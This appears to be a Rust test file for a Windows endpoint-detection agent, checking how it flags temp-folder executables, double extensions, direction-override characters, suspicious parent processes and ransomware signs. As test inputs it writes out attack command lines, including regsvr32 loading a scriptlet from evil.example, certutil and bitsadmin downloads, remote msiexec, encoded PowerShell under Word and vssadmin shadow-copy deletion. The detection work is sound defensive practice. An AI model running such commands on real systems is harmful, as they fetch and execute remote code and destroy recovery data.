use hispanshield_agent::heuristic::{
    analyse_file, detect_mass_file_modification, is_lolbin, is_suspicious_extension,
};
use hispanshield_agent::scoring::calculate_score;
use hispanshield_agent::winpath::{extension, file_name, parent, starts_with_path};

#[test]
fn temp_and_appdata_paths_are_flagged() {
    let r = analyse_file(r"C:\Users\bob\AppData\Local\Temp\evil.exe", None, None);
    assert_eq!(r.flags, vec!["exec_from_temp".to_string(), "exec_from_appdata".to_string()]);
    assert!(r.score_factors.exec_from_temp);
    assert!(r.score_factors.exec_from_appdata);
    assert!(!r.score_factors.lolbin_suspicious);
    assert_eq!(calculate_score(&r.score_factors), 35);
}

#[test]
fn double_extension_weighs_thirty() {
    let r = analyse_file(r"C:\Users\bob\Downloads\invoice.pdf.exe", None, None);
    assert_eq!(r.flags, vec!["double_extension".to_string()]);
    assert!(r.score_factors.double_extension);
    assert!(!r.score_factors.exec_from_temp);
    assert_eq!(calculate_score(&r.score_factors), 30);
    let r = analyse_file(r"C:\Users\bob\Downloads\Invoice.PDF.exe", None, None);
    assert_eq!(r.flags, vec!["double_extension".to_string()]);
}

#[test]
fn direction_controls_in_path_are_suspicious() {
    let r = analyse_file("C:\\Users\\bob\\Downloads\\inv\u{202E}fdp.exe", None, None);
    assert_eq!(r.flags, vec!["suspicious_unicode_path".to_string()]);
    assert!(r.score_factors.suspicious_unicode_path);
    assert_eq!(calculate_score(&r.score_factors), 25);
    let r = analyse_file("C:\\Users\\bob\\Downloads\\caf\u{e9}.exe", None, None);
    assert!(r.flags.is_empty());
}

#[test]
fn documented_lolbin_abuse_is_flagged() {
    let r = analyse_file(
        r"C:\Windows\System32\regsvr32.exe",
        Some("regsvr32.exe /s /n /u /i:http://evil.example/x.sct scrobj.dll"),
        None,
    );
    assert_eq!(r.flags, vec!["lolbin_regsvr32_remote".to_string()]);
    assert!(r.score_factors.lolbin_suspicious);
    assert_eq!(calculate_score(&r.score_factors), 25);
    let r = analyse_file(r"C:\Windows\System32\regsvr32.exe", Some("regsvr32 /s shell32.dll"), None);
    assert!(r.flags.is_empty());
    let r = analyse_file(
        r"C:\Windows\System32\bitsadmin.exe",
        Some("bitsadmin /Transfer job http://x/a C:\\a"),
        None,
    );
    assert_eq!(r.flags, vec!["lolbin_bitsadmin_transfer".to_string()]);
    let r = analyse_file(r"C:\Windows\System32\msiexec.exe", Some("msiexec /q /i https://x/p.msi"), None);
    assert_eq!(r.flags, vec!["lolbin_msiexec_remote".to_string()]);
    let r = analyse_file(r"C:\Windows\System32\msiexec.exe", Some("msiexec /i C:\\p.msi"), None);
    assert!(r.flags.is_empty());
    let r = analyse_file(r"C:\Windows\System32\cmstp.exe", Some("cmstp.exe /ni /s C:\\x\\p.INF"), None);
    assert_eq!(r.flags, vec!["lolbin_cmstp_inf".to_string()]);
    let r = analyse_file(
        r"C:\Windows\System32\wbem\WMIC.exe",
        Some("wmic /node:10.0.0.2 process call create calc.exe"),
        None,
    );
    assert_eq!(r.flags, vec!["lolbin_wmic_exec".to_string()]);
}

#[test]
fn powershell_with_encoded_command_under_office() {
    let r = analyse_file(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        Some("powershell.exe -NoP -Enc SQBFAFgA"),
        Some("WINWORD.EXE"),
    );
    assert_eq!(
        r.flags,
        vec!["lolbin_ps_suspicious_args".to_string(), "office_spawned_powershell.exe".to_string()]
    );
    assert!(r.score_factors.lolbin_suspicious);
    assert!(r.score_factors.suspicious_parent);
    assert_eq!(calculate_score(&r.score_factors), 45);
}

#[test]
fn lolbin_without_command_line_is_not_flagged() {
    let r = analyse_file(r"C:\Windows\System32\certutil.exe", None, None);
    assert!(r.flags.is_empty());
    let r = analyse_file(r"C:\Windows\System32\certutil.exe", Some("certutil -urlcache -f http://x/a a"), None);
    assert_eq!(r.flags, vec!["lolbin_certutil_download".to_string()]);
}

#[test]
fn script_hosts_and_rundll32() {
    let r = analyse_file(r"C:\Windows\System32\mshta.exe", Some("mshta http://x"), None);
    assert_eq!(r.flags, vec!["lolbin_mshta.exe".to_string()]);
    let r = analyse_file(r"C:\Windows\Temp\rundll32.exe", Some("rundll32 a.dll,f"), None);
    assert_eq!(r.flags, vec!["exec_from_temp".to_string(), "lolbin_rundll32_temp".to_string()]);
    let r = analyse_file(r"C:\Windows\System32\rundll32.exe", Some("rundll32 a.dll,f"), None);
    assert!(r.flags.is_empty());
    let r = analyse_file(
        r"C:\Windows\System32\rundll32.exe",
        Some(r"rundll32 C:\Users\bob\AppData\Local\Temp\x.dll,Start"),
        None,
    );
    assert_eq!(r.flags, vec!["lolbin_rundll32_temp".to_string()]);
}

#[test]
fn script_in_system32_and_browser_parent() {
    let r = analyse_file(r"C:\Windows\System32\drop.VBS", None, None);
    assert_eq!(r.flags, vec!["suspicious_ext_in_system32".to_string()]);
    assert!(!r.score_factors.exec_from_temp);
    let r = analyse_file(r"C:\Windows\System32\cmd.exe", None, Some("chrome.exe"));
    assert_eq!(r.flags, vec!["browser_spawned_cmd.exe".to_string()]);
    assert!(r.score_factors.suspicious_parent);
}

#[test]
fn extension_and_lolbin_lists() {
    assert!(is_suspicious_extension("PS1"));
    assert!(is_suspicious_extension("lnk"));
    assert!(!is_suspicious_extension("exe"));
    assert!(!is_suspicious_extension(".ps1"));
    assert!(is_lolbin("PowerShell.EXE"));
    assert!(is_lolbin("winrm.cmd"));
    assert!(!is_lolbin("notepad.exe"));
}

#[test]
fn mass_modification_threshold() {
    assert!(!detect_mass_file_modification(50, 50));
    assert!(detect_mass_file_modification(51, 50));
    assert!(!detect_mass_file_modification(49, 50));
}

#[test]
fn windows_path_pieces() {
    assert_eq!(file_name(r"C:\dir\file.tar.gz"), Some("file.tar.gz".to_string()));
    assert_eq!(extension(r"C:\dir\file.tar.gz"), Some("gz".to_string()));
    assert_eq!(file_name(r"C:\dir\.."), None);
    assert_eq!(file_name(r"C:\"), None);
    assert_eq!(file_name(r"C:/dir/sub/"), Some("sub".to_string()));
    assert_eq!(extension(r"C:\dir\.hidden"), None);
    assert_eq!(extension("noext"), None);
}

#[test]
fn windows_path_parents() {
    assert_eq!(parent(r"C:\Users\bob\a.txt"), Some(r"C:\Users\bob".to_string()));
    assert_eq!(parent(r"C:\a.txt"), Some(r"C:\".to_string()));
    assert_eq!(parent(r"C:\"), None);
    assert_eq!(parent(""), None);
    assert_eq!(parent("a.txt"), Some(String::new()));
    assert_eq!(parent(r"dir\\.\file"), Some("dir".to_string()));
    assert_eq!(parent(r".\file"), Some(".".to_string()));
}

#[test]
fn path_prefix_by_components() {
    assert!(starts_with_path(r"C:\Windows\Temp\a.exe", r"C:\Windows"));
    assert!(starts_with_path(r"C:\Windows\Temp\a.exe", r"c:\Windows\"));
    assert!(!starts_with_path(r"C:\Windows\Temp\a.exe", r"C:\windows"));
    assert!(!starts_with_path(r"C:\Windows\Temp\a.exe", r"C:\Win"));
    assert!(starts_with_path(r"C:/Windows//Temp/a.exe", r"C:\Windows\Temp"));
    assert!(!starts_with_path(r"Windows\Temp", r"C:\Windows"));
}

#[test]
fn signs_of_ransomware() {
    let r = analyse_file(r"C:\Users\bob\Documents\report.docx.LOCKED", None, None);
    assert_eq!(r.flags, vec!["ransomware_extension".to_string()]);
    assert!(r.score_factors.ransomware_extension);
    assert_eq!(calculate_score(&r.score_factors), 50);
    let r = analyse_file(r"C:\Users\bob\Documents\HOW_TO_DECRYPT.txt", None, None);
    assert_eq!(r.flags, vec!["ransom_note".to_string()]);
    assert_eq!(calculate_score(&r.score_factors), 50);
    let r = analyse_file(
        r"C:\Windows\System32\vssadmin.exe",
        Some("vssadmin.exe Delete Shadows /All /Quiet"),
        None,
    );
    assert_eq!(r.flags, vec!["shadow_copy_deletion".to_string()]);
    assert_eq!(calculate_score(&r.score_factors), 70);
    let r = analyse_file(r"C:\Windows\System32\vssadmin.exe", Some("vssadmin list shadows"), None);
    assert!(r.flags.is_empty());
    let r = analyse_file(r"C:\Users\bob\Documents\notes.encoded", None, None);
    assert!(r.flags.is_empty());
}

#[test]
fn analysis_ignores_ascii_case() {
    let a = analyse_file(
        r"C:\USERS\BOB\APPDATA\LOCAL\TEMP\PowerShell.EXE",
        Some("POWERSHELL.EXE -NoP -ENC SQBFAFgA"),
        Some("WinWord.exe"),
    );
    let b = analyse_file(
        r"c:\users\bob\appdata\local\temp\powershell.exe",
        Some("powershell.exe -nop -enc sqbfafga"),
        Some("winword.exe"),
    );
    assert_eq!(a.flags, b.flags);
    assert_eq!(
        a.flags,
        vec![
            "exec_from_temp".to_string(),
            "exec_from_appdata".to_string(),
            "lolbin_ps_suspicious_args".to_string(),
            "office_spawned_powershell.exe".to_string(),
        ]
    );
    assert_eq!(calculate_score(&a.score_factors), calculate_score(&b.score_factors));
    let c = analyse_file(r"C:\Docs\INVOICE.PDF.EXE", None, None);
    let d = analyse_file(r"c:\docs\invoice.pdf.exe", None, None);
    assert_eq!(c.flags, d.flags);
    assert!(c.score_factors.double_extension && d.score_factors.double_extension);
}
